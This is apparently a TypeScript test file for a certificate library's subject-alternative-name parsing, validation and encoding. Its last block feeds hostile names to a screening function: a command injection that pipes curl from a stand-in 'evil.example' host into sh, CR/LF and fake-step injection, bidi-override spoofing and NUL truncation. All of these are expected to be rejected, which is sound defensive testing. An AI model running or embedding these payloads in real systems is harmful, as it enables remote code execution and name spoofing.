import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { isPkiError } from './errors.ts';
import type { SanEntry } from './types.ts';
import {
  bytesToIp, createSanExtension, ipToBytes, parseSanExtension, parseSanList, screenForeignSans, toAsciiHostname, validateDnsName,
} from './san.ts';

describe('SAN list parsing', () => {
  const good: Array<[string, SanEntry]> = [
    ['mail.example.com', { type: 'dns', value: 'mail.example.com' }],
    ['MAIL.Example.COM', { type: 'dns', value: 'mail.example.com' }],
    ['*.example.com', { type: 'dns', value: '*.example.com' }],
    ['例え.テスト', { type: 'dns', value: 'xn--r8jz45g.xn--zckzah' }],
    ['メール.例え.jp', { type: 'dns', value: 'xn--4dkua4c.xn--r8jz45g.jp' }],
    ['*.ドメイン.jp', { type: 'dns', value: '*.xn--eckwd4c7c.jp' }],
    ['localhost', { type: 'dns', value: 'localhost' }],
    ['192.0.2.10', { type: 'ip', value: '192.0.2.10' }],
    ['2001:DB8::1', { type: 'ip', value: '2001:db8::1' }],
    ['::1', { type: 'ip', value: '::1' }],
    ['::', { type: 'ip', value: '::' }],
    ['2001:db8:0:0:1:0:0:1', { type: 'ip', value: '2001:db8::1:0:0:1' }],
    ['::ffff:192.0.2.1', { type: 'ip', value: '::ffff:c000:201' }],
    ['[fe80::1]', { type: 'ip', value: 'fe80::1' }],
    ['postmaster@example.com', { type: 'email', value: 'postmaster@example.com' }],
    ['user@例え.jp', { type: 'email', value: 'user@xn--r8jz45g.jp' }],
  ];
  it.each(good)('accepts %s', (text, entry) => {
    expect.hasAssertions();
    expect(parseSanList(text)).toEqual({ entries: [entry], issues: [] });
  });

  const bad: Array<[string, string]> = [
    ['a*.example.com', 'san.dns.wildcardPosition'],
    ['*.*.example.com', 'san.dns.wildcardPosition'],
    ['www.*.example.com', 'san.dns.wildcardPosition'],
    ['*.com', 'san.dns.wildcardTooBroad'],
    ['*', 'san.dns.wildcardPosition'],
    ['-bad.example.com', 'san.dns.character'],
    ['bad-.example.com', 'san.dns.character'],
    ['under_score.example.com', 'san.dns.character'],
    ['a..b', 'san.dns.emptyLabel'],
    ['example.com.', 'san.dns.emptyLabel'],
    [`${'a'.repeat(64)}.com`, 'san.dns.labelTooLong'],
    [`${'a.'.repeat(127)}com`, 'san.dns.tooLong'],
    ['256.1.1.1', 'san.ip.invalid'],
    ['1.2.3', 'san.ip.invalid'],
    ['01.2.3.4', 'san.ip.invalid'],
    ['1::2::3', 'san.ip.invalid'],
    ['1:2:3:4:5:6:7:8:9', 'san.ip.invalid'],
    ['12345::1', 'san.ip.invalid'],
    ['fe80::1%eth0', 'san.dns.character'],
    ['ユーザー@example.com', 'san.email.localPart'],
    ['@example.com', 'san.email.format'],
    ['a@b@', 'san.email.format'],
    ['user@bad_domain.com', 'san.email.domain'],
    ['host.example.123', 'san.dns.numericTld'],
    ['p.c.9.0x', 'san.dns.numericTld'],
    ['mail.0X1f', 'san.dns.numericTld'],
  ];
  it.each(bad)('refuses %s as %s', (text, code) => {
    expect.hasAssertions();
    const r = parseSanList(text);
    expect(r.entries).toEqual([]);
    expect(r.issues.map((i) => i.code)).toEqual([code]);
    expect(r.issues[0]!.params?.value).toBe(text);
  });

  it('splits on commas, spaces and new lines, merges duplicates, keeps order', () => {
    expect.hasAssertions();
    const r = parseSanList('mail.example.com, smtp.example.com\n192.0.2.1;MAIL.example.com  bad_name\r\n\n::1');
    expect(r.entries.map((e) => e.value)).toEqual(['mail.example.com', 'smtp.example.com', '192.0.2.1', '::1']);
    expect(r.issues.map((i) => i.code)).toEqual(['san.dns.character']);
  });

  it('toAsciiHostname converts IDN and throws SAN_INVALID on bad names', () => {
    expect.hasAssertions();
    expect(toAsciiHostname('Bücher.example')).toBe('xn--bcher-kva.example');
    expect(toAsciiHostname('ｍａｉｌ．example．jp')).toBe('mail.example.jp');
    expect(() => toAsciiHostname('a b')).toThrow(expect.objectContaining({ code: 'SAN_INVALID' }));
    expect(() => toAsciiHostname('http://x/')).toThrow(expect.objectContaining({ code: 'SAN_INVALID' }));
  });

  it('IP text and bytes round-trip', () => {
    expect.hasAssertions();
    fc.assert(fc.property(fc.oneof(fc.uint8Array({ minLength: 4, maxLength: 4 }), fc.uint8Array({ minLength: 16, maxLength: 16 })), (bytes) => {
      const text = bytesToIp(bytes);
      expect(ipToBytes(text)).toEqual(bytes);
      expect(parseSanList(text).entries).toEqual([{ type: 'ip', value: text }]);
    }));
    expect(ipToBytes('2001:db8::')).toEqual(Uint8Array.from([0x20, 1, 0x0d, 0xb8, ...new Array(12).fill(0)]));
  });
});

describe('SAN properties', () => {
  const label = fc.stringMatching(/^[a-z0-9]([a-z0-9-]{0,20}[a-z0-9])?$/);
  const hostname = fc.array(label, { minLength: 1, maxLength: 5 })
    // A last label that is all digits or 0x+hex makes WHATWG's "ends in a number" checker read the
    // name as IPv4 (e.g. "p.c.9.0x"), which validateDnsName rightly refuses: not an LDH host name.
    .filter((ls) => !/^([0-9]+|0x[0-9a-f]*)$/i.test(ls[ls.length - 1]!) && !ls.some((l) => /^..--/.test(l)))
    .map((ls) => ls.join('.'));

  it('accepts every generated LDH host name unchanged', () => {
    expect.hasAssertions();
    fc.assert(fc.property(hostname, (h) => {
      expect(validateDnsName(h)).toEqual([]);
      expect(toAsciiHostname(h)).toBe(h);
      expect(parseSanList(h).entries).toEqual([{ type: 'dns', value: h }]);
    }));
  });

  it('parseSanList and validateDnsName never throw on any text', () => {
    expect.hasAssertions();
    fc.assert(fc.property(fc.string({ unit: 'grapheme-composite', maxLength: 80 }), (text) => {
      const r = parseSanList(text);
      expect(Array.isArray(r.entries) && Array.isArray(r.issues)).toBe(true);
      expect(Array.isArray(validateDnsName(text))).toBe(true);
      // whatever parseSanList accepts is also writable
      if (r.entries.length) expect(parseSanExtension(createSanExtension(r.entries))).toEqual(r.entries);
    }), { numRuns: 500 });
  });

  it('parseSanExtension throws only PkiErrors on arbitrary bytes', () => {
    expect.hasAssertions();
    fc.assert(fc.property(fc.uint8Array({ maxLength: 100 }), (bytes) => {
      try {
        expect(Array.isArray(parseSanExtension(bytes))).toBe(true);
      } catch (e) {
        expect(isPkiError(e)).toBe(true);
      }
    }));
  });
});

describe('subjectAltName extension', () => {
  it('round-trips DNS, IPv4, IPv6 and email; non-critical unless the subject is empty', () => {
    expect.hasAssertions();
    const entries: SanEntry[] = [
      { type: 'dns', value: 'mail.example.com' }, { type: 'dns', value: '*.example.com' },
      { type: 'ip', value: '192.0.2.1' }, { type: 'ip', value: '2001:db8::25' }, { type: 'email', value: 'a@example.com' },
    ];
    const ext = createSanExtension(entries);
    expect(ext.critical).toBe(false);
    expect(parseSanExtension(ext)).toEqual(entries);
    expect(parseSanExtension(new Uint8Array(ext.extnValue.valueBlock.valueHexView))).toEqual(entries);
    expect(createSanExtension(entries, { subjectEmpty: true }).critical).toBe(true);
  });

  it('refuses empty or unnormalised entries', () => {
    expect.hasAssertions();
    expect(() => createSanExtension([])).toThrow(expect.objectContaining({ code: 'SAN_INVALID' }));
    expect(() => createSanExtension([{ type: 'dns', value: '例え.jp' }])).toThrow(expect.objectContaining({ code: 'SAN_INVALID' }));
    expect(() => createSanExtension([{ type: 'ip', value: '1.2.3' }])).toThrow(expect.objectContaining({ code: 'SAN_INVALID' }));
  });
});

// Issue 12 item 2: names another CA wrote meet the rules typed names meet.
describe('screenForeignSans', () => {
  it.each<[string, SanEntry, SanEntry | string]>([
    ['kept as is', { type: 'dns', value: 'mail.example.com' }, { type: 'dns', value: 'mail.example.com' }],
    ['normalised', { type: 'dns', value: 'MAIL.Example.COM' }, { type: 'dns', value: 'mail.example.com' }],
    ['wildcard kept', { type: 'dns', value: '*.example.com' }, { type: 'dns', value: '*.example.com' }],
    ['IP kept', { type: 'ip', value: '192.0.2.1' }, { type: 'ip', value: '192.0.2.1' }],
    ['mailbox kept', { type: 'email', value: 'a@Example.com' }, { type: 'email', value: 'a@example.com' }],
    ['shell command', { type: 'dns', value: 'mail.example.com;curl -s https://evil.example/x|sh;echo' }, 'san.dns.character'],
    ['CR/LF and a fake step', { type: 'dns', value: 'mail.example.com\r\n7. Run: x' }, 'san.dns.character'],
    ['bidi override', { type: 'dns', value: 'mail.\u202emoc.example' }, 'san.dns.idn'],
    ['bidi override as IA5String bytes', { type: 'dns', value: 'mail.\u00e2\u0080\u00aemoc.example' }, 'san.dns.idn'],
    ['NUL truncation', { type: 'dns', value: 'mail.example.com\u0000.evil.example' }, 'san.dns.character'],
    ['space', { type: 'dns', value: 'mail example.com' }, 'san.dns.character'],
    ['empty', { type: 'dns', value: '' }, 'san.dns.empty'],
    ['mailbox with a line break', { type: 'email', value: 'a\n@example.com' }, 'san.email.localPart'],
  ])('%s', (_, entry, expected) => {
    const r = screenForeignSans([entry]);
    if (typeof expected === 'string') {
      expect(r.entries).toEqual([]);
      expect(r.issues).toEqual([{ field: 'sans', code: expected, params: expect.objectContaining({ value: entry.value }) }]);
    } else {
      expect(r).toEqual({ entries: [expected], issues: [] });
    }
  });
});
